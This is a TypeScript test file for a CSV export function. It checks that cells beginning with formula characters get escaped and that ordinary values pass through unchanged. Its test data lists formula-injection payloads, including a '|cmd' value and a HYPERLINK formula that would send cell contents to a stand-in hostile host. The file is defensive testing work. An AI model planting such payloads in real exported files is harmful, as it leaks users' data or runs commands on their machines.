import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord } from './csv.ts';

describe('a record of a CSV file', () => {
  it.each([
    '=1+1',
    '+31612345678',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '"=1+1',
    "'=1+1",
    '\u00A0=1',
    '\uFEFF=1',
    '＝1+1',
    '|cmd',
    '%0A=1',
    '=HYPERLINK("http://kwaad.example?x="&A1;"klik")',
  ])('makes no formula of %j', (text) => {
    const [[cell = ''] = []] = parse(csvRecord([text])) as string[][];
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(text);
  });

  it.each(['Bakkerij De Bol', 'a, b', 'a "b" c', 'regel\nregel', '5-daags', 'x=y', ''])(
    'leaves %j as it is',
    (text) => {
      expect(parse(csvRecord([text, 'x']), { skip_empty_lines: false })).toEqual([[text, 'x']]);
    },
  );

  it('keeps numbers, and comes back whatever was in it', () => {
    expect(csvRecord([-5, 0, null, 'a;b'], ';')).toBe('-5;0;;"a;b"');
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 2, maxLength: 5 }), (cells) => {
        const [read = []] = parse(csvRecord(cells), { relax_column_count: true }) as string[][];
        expect(read.map((cell, index) => (cell === cells[index] ? cell : cell.slice(1)))).toEqual(cells);
      }),
    );
  });
});
